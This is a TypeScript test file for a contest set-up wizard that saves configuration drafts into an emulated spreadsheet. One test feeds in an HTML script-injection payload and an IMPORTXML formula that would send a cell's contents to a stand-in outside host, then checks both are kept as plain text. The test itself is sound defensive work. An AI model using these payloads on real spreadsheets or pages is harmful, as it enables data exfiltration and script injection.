// The set-up wizard's server side on an emulated spreadsheet: what it starts from, and what saving
// a draft sent by the page writes, refuses or normalises.

import { readConfiguration } from '../../src/app/contest-configuration';
import type { ContestConfig } from '../../src/core/config/model';
import { PRESETS, presetById } from '../../src/core/config/presets';
import { validateConfig } from '../../src/core/config/validation';
import { saveWizardDraft, wizardStartingPoint, wizardStartView } from '../../src/ui/wizard-flow';
import { freshWorkbook } from '../app/emulated-workbook';

const overTheWire = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

describe('the set-up wizard, server side', () => {
  it('starts with every preset and nothing current in an empty spreadsheet', () => {
    const { workbook } = freshWorkbook();
    const start = wizardStartView(workbook, 'vi');
    expect(start.presets.map((p) => p.id)).toEqual(PRESETS.map((p) => p.id));
    expect(start.presets[0].name).toMatch(/Hậu Giang 2024/);
    expect(start.current).toBeNull();
    expect(start.existingSheets).toEqual([]);
  });

  it('saves a preset sent over the wire, and offers it as the current configuration next time', () => {
    const { workbook } = freshWorkbook();
    const draft = overTheWire(wizardStartingPoint('hauGiang2024', 2026, 'vi'));
    const outcome = saveWizardDraft(workbook, draft, 'vi', '(cũ 1)');
    expect(outcome.saved).toBe(true);
    expect(outcome.written).toContain('Giải thưởng');
    expect(outcome.problems.every((p) => p.severity === 'warning')).toBe(true);
    expect(readConfiguration(workbook).config).toEqual(presetById('hauGiang2024').build());
    const again = wizardStartView(workbook, 'vi');
    expect(again.current).toEqual(presetById('hauGiang2024').build());
    expect(again.existingSheets).toContain('Cấu hình');
  });

  it('refuses a draft with errors, writes nothing, and names each field by the path the page marks', () => {
    const { emu, workbook } = freshWorkbook();
    const draft = overTheWire(wizardStartingPoint('blank', 2026, 'vi'));
    const outcome = saveWizardDraft(workbook, draft, 'vi', '(cũ 1)');
    expect(outcome.saved).toBe(false);
    const expected = validateConfig(draft).filter((p) => p.severity === 'error').map((p) => p.path);
    expect(outcome.problems.filter((p) => p.severity === 'error').map((p) => p.path)).toEqual(expected);
    expect(outcome.problems.findIndex((p) => p.severity === 'warning')).not.toBe(0);
    expect(outcome.problems.find((p) => p.path === 'identity.title')?.message).toMatch(/^Thông tin chung › .*Tên cuộc thi/);
    expect(emu.activeSpreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1']);
  });

  it('keeps the earlier configuration sheets under "(cũ …)" names when saving again', () => {
    const { workbook } = freshWorkbook();
    saveWizardDraft(workbook, overTheWire(wizardStartingPoint('dakrong2020', 2026, 'vi')), 'vi', '(cũ 1)');
    const second = saveWizardDraft(workbook, overTheWire(wizardStartingPoint('tanAn2024', 2026, 'vi')), 'vi', '(cũ 2)');
    expect(second.archived).toContain('Cấu hình (cũ 2)');
    expect(readConfiguration(workbook).config?.identity.code).toBe(presetById('tanAn2024').build().identity.code);
  });

  it('stores what a clerk typed literally: formulas, markup and placeholders stay text', () => {
    const { emu, workbook } = freshWorkbook();
    const draft = overTheWire(wizardStartingPoint('hauGiang2024', 2026, 'vi'));
    draft.identity.title = '<img src=x onerror=alert(1)> {{so_ky_hieu}}';
    draft.units.push({ code: 'X1', name: '=IMPORTXML("http://x.example/?"&A1,"//a")' });
    expect(saveWizardDraft(workbook, draft, 'vi', '(cũ 1)').saved).toBe(true);
    const read = readConfiguration(workbook).config!;
    expect(read.identity.title).toBe('<img src=x onerror=alert(1)> {{so_ky_hieu}}');
    expect(read.units.at(-1)?.name).toBe('=IMPORTXML("http://x.example/?"&A1,"//a")');
    const formulas = emu.activeSpreadsheet.getSheets().flatMap((s) => s.getDataRange().getFormulas().flat()).filter((f) => f !== '');
    expect(formulas).toEqual([]);
  });

  it('reads a number the page sent as text the way the configuration sheet would', () => {
    const { workbook } = freshWorkbook();
    const draft = overTheWire(wizardStartingPoint('hauGiang2024', 2026, 'vi')) as ContestConfig;
    (draft.prizes.tiers[0] as unknown as Record<string, unknown>).amount = '12000000';
    expect(saveWizardDraft(workbook, draft, 'vi', '(cũ 1)').saved).toBe(true);
    expect(readConfiguration(workbook).config?.prizes.tiers[0].amount).toBe(12_000_000);
  });

  it('refuses what is not a configuration at all, saying so in the user language', () => {
    const { emu, workbook } = freshWorkbook();
    for (const junk of [null, 'HG2024', 42, [], { identity: 5 }]) {
      const outcome = saveWizardDraft(workbook, junk, 'en', '(cũ 1)');
      expect(outcome.saved).toBe(false);
      expect(outcome.problems).toEqual([{ path: '', severity: 'error', message: expect.stringMatching(/cannot be read, so nothing was saved/) }]);
    }
    expect(emu.activeSpreadsheet.getSheets()).toHaveLength(1);
  });

  it('refuses an unknown preset with a message, and starts blank with this year', () => {
    expect(() => wizardStartingPoint('hanoi1990' as never, 2026, 'vi')).toThrow(/Không có mẫu kế hoạch «hanoi1990»/);
    expect(wizardStartingPoint('blank', 2027, 'vi').identity.year).toBe(2027);
  });
});
